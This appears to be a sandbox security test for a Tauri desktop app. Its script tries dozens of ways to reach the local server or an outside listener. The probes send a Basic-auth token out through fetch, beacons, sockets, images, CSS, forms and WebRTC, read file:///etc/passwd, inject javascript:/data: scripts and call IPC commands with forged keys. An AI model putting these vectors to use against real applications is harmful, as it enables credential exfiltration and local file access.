// What a script in the window might try. Gives `{name: "refused: …" | "ALLOWED: …"}`.
// HERE is the server of the open folder with its password, THERE a listener of the test that is to hear nothing.
const short = (value) => String(value?.message ?? value?.code ?? JSON.stringify(value) ?? value).slice(0, 120);
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const within = (promise, ms = 3000) => Promise.race([promise, wait(ms).then(() => ({ refused: "nothing came" }))]);
const loads = (element) =>
  within(
    new Promise((done) => {
      element.onload = element.onloadeddata = () => done({ allowed: "it was loaded" });
      element.onerror = () => done({ refused: "error" });
      document.body.append(element);
    }),
    600,
  );
const make = (tag, fields) => Object.assign(document.createElement(tag), fields);
const svg = (tag, href) => {
  const outer = document.createElementNS("http://www.w3.org/2000/svg", "svg");
  const inner = document.createElementNS("http://www.w3.org/2000/svg", tag);
  inner.setAttribute("href", href);
  outer.append(inner);
  return outer;
};
const opens = (socket) =>
  within(
    new Promise((done) => {
      socket.onopen = () => done({ allowed: "it opened" });
      socket.onerror = () => done({ refused: "error" });
    }),
  );
const basic = { authorization: `Basic ${btoa(`opencode:${PASSWORD}`)}` };
const token = `auth_token=${encodeURIComponent(btoa(`opencode:${PASSWORD}`))}`;
const attempts = {};
const attempt = (name, work) => {
  attempts[name] = work;
};

for (const [place, base] of [["server", HERE], ["outside", THERE]]) {
  const socket = base.replace("http", "ws");
  attempt(`${place}: fetch`, () => fetch(`${base}/session`, { headers: basic }));
  attempt(`${place}: fetch without reading`, () => fetch(`${base}/session?${token}`, { method: "POST", mode: "no-cors", keepalive: true }));
  attempt(`${place}: XMLHttpRequest`, () =>
    within(
      new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done({ allowed: `status ${request.status}` });
        request.onerror = () => done({ refused: "error" });
        request.open("POST", `${base}/session?${token}`);
        request.send("{}");
      }),
    ));
  attempt(`${place}: WebSocket`, () => opens(new WebSocket(`${socket}/event?${token}`)));
  attempt(`${place}: EventSource`, () => opens(new EventSource(`${base}/event?${token}`)));
  // Its answer says only that it was queued; the listener tells whether it was sent.
  attempt(`${place}: sendBeacon`, async () => (navigator.sendBeacon(`${base}/session?${token}`, "{}"), { refused: "not heard of" }));
  attempt(`${place}: import`, () => import(`${base}/x.js`));
  attempt(`${place}: Worker`, () => opens(new Worker(`${base}/x.js`)));
  attempt(`${place}: SharedWorker`, () => opens(new SharedWorker(`${base}/x.js`)));
  attempt(`${place}: service worker`, () => navigator.serviceWorker.register(`${base}/x.js`));
  attempt(`${place}: font`, () => new FontFace("stolen", `url(${base}/x.woff)`).load());
  for (const [name, element] of [
    ["img", () => make("img", { src: `${base}/x.png?${token}` })],
    ["script", () => make("script", { src: `${base}/x.js` })],
    ["module", () => make("script", { type: "module", src: `${base}/x.js` })],
    ["stylesheet", () => make("link", { rel: "stylesheet", href: `${base}/x.css` })],
    ["iframe", () => make("iframe", { src: `${base}/session?${token}` })],
    ["object", () => make("object", { data: `${base}/x` })],
    ["embed", () => make("embed", { src: `${base}/x` })],
    ["video", () => make("video", { src: `${base}/x.mp4`, autoplay: true })],
    ["audio", () => make("audio", { src: `${base}/x.mp3`, autoplay: true })],
    ["input", () => make("input", { type: "image", src: `${base}/x.png` })],
    ["svg image", () => svg("image", `${base}/x.svg`)],
    ["svg use", () => svg("use", `${base}/x.svg#a`)],
    ["iframe with a document", () => make("iframe", { srcdoc: `<img src="${base}/x.png"><script src="${base}/x.js"></script>` })],
  ]) {
    attempt(`${place}: ${name}`, async () => {
      const made = element();
      const came = await loads(made);
      made.remove();
      // Its own document is empty; the listener hears what is in it.
      return name === "iframe with a document" || (/^iframe|object|embed$/.test(name) && !came.refused) ? { refused: "not heard of" } : came;
    });
  }
  for (const rel of ["preload", "prefetch", "modulepreload", "icon", "manifest", "preconnect", "dns-prefetch"]) {
    attempt(`${place}: link ${rel}`, async () => {
      const came = await loads(make("link", { rel, href: `${base}/x`, as: "image" }));
      return came.allowed && rel.includes("connect") ? { refused: "not heard of" } : came;
    });
  }
  attempt(`${place}: css`, async () => {
    const box = make("div", { textContent: "x" });
    box.style.backgroundImage = `url(${base}/a.png)`;
    box.style.cursor = `url(${base}/b.cur), auto`;
    document.styleSheets[0].insertRule(`#stolen { background: url(${base}/c.png); list-style-image: url(${base}/d.png) }`);
    box.id = "stolen";
    document.body.append(box, make("style", { textContent: `@import url(${base}/e.css); #stolen { background: url(${base}/f.png) }` }));
    await wait(300);
    box.remove();
    return { refused: "not heard of" };
  });
  attempt(`${place}: location`, async () => (location.assign(`${base}/?${token}`), { refused: "the page stays" }));
  attempt(`${place}: history`, () => history.pushState(null, "", `${base}/`));
  for (const target of ["_self", "_blank", "_top", "other"]) {
    attempt(`${place}: link to ${target}`, async () => {
      make("a", { href: `${base}/?${token}`, target }).click();
      await wait(100);
      return { refused: "the page stays" };
    });
  }
  attempt(`${place}: download`, async () => (make("a", { href: `${base}/x`, download: "x" }).click(), await wait(100), { refused: "not heard of" }));
  attempt(`${place}: ping`, async () => (make("a", { href: "#", ping: `${base}/x` }).click(), await wait(100), { refused: "not heard of" }));
  attempt(`${place}: meta refresh`, async () => {
    const meta = make("meta", { httpEquiv: "refresh", content: `0;url=${base}/` });
    document.head.append(meta);
    await wait(300);
    meta.remove();
    return { refused: "the page stays" };
  });
  for (const method of ["GET", "POST"]) {
    for (const target of ["_self", "_blank"]) {
      attempt(`${place}: form ${method} to ${target}`, async () => {
        const form = make("form", { method, target, action: `${base}/session?${token}` });
        document.body.append(form);
        form.submit();
        await wait(100);
        form.remove();
        return { refused: "the page stays" };
      });
    }
  }
  attempt(`${place}: window.open`, async () => (window.open(`${base}/`) ? { allowed: "a window" } : { refused: "no window" }));
  attempt(`${place}: WebRTC`, async () => {
    if (typeof RTCPeerConnection === "undefined") return { refused: "there is none" };
    const connection = new RTCPeerConnection({ iceServers: [{ urls: base.replace("http://", "turn:") + "?transport=tcp", username: "a", credential: "b" }] });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    await wait(300);
    return { refused: "not heard of" };
  });
}
for (const address of ["file:///etc/passwd", "data:text/html,<script>parent.__pwned=1</script>", "javascript:window.__pwned=1", "tauri://other/index.html", "asset://localhost/etc/passwd"]) {
  const kind = address.split(":")[0];
  attempt(`${kind}: location`, async () => (location.assign(address), await wait(100), { refused: "the page stays" }));
  attempt(`${kind}: window.open`, async () => (window.open(address) ? { allowed: "a window" } : { refused: "no window" }));
  attempt(`${kind}: fetch`, () => fetch(address));
  attempt(`${kind}: script`, () => loads(make("script", { src: address })));
}
attempt("blob: location", async () => (location.assign(URL.createObjectURL(new Blob(["<script>1</script>"], { type: "text/html" }))), await wait(100), { refused: "the page stays" }));
attempt("blob: worker", () => opens(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))));
attempt("blob: import", () => import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))));
attempt("data: import", () => import("data:text/javascript,window.__pwned=1"));
attempt("inline script", async () => (document.body.append(make("script", { textContent: "window.__pwned = 1" })), { refused: "it does not run" }));
attempt("inline handler", async () => {
  const box = make("div");
  box.innerHTML = `<img src="data:," onerror="window.__pwned = 1"><svg onload="window.__pwned = 1"></svg>`;
  document.body.append(box);
  await wait(100);
  box.remove();
  return { refused: "it does not run" };
});
for (const [name, command] of [["without a key", {}], ["with a made up key", { "Tauri-Invoke-Key": "x" }]]) {
  attempt(`ipc ${name}`, async () => {
    const headers = { ...command, "Tauri-Callback": "1", "Tauri-Error": "2", "content-type": "application/json" };
    const answer = await fetch("ipc://localhost/attach", { method: "POST", headers, body: "{}" });
    return answer.headers.get("Tauri-Response") === "ok" ? { allowed: await answer.text() } : { refused: await answer.text() };
  });
}
for (const [command, fields] of COMMANDS) {
  attempt(`invoke ${command}`, () => window.__TAURI_INTERNALS__.invoke(command, fields));
}

const outcome = {};
const make_attempt = async ([name, work]) => {
  try {
    const came = await within(Promise.resolve(work()));
    outcome[name] = came?.refused ? `refused: ${short(came.refused)}` : `ALLOWED: ${short(came?.allowed ?? came)}`;
  } catch (error) {
    outcome[name] = `refused: ${short(error)}`;
  }
};
// What would lead the page away comes one after the other.
const leads_away = ([name]) => /: (location|link to|download|ping|meta|form|window)/.test(name);
await Promise.all(Object.entries(attempts).filter((one) => !leads_away(one)).map(make_attempt));
for (const one of Object.entries(attempts).filter(leads_away)) await make_attempt(one);
return outcome;
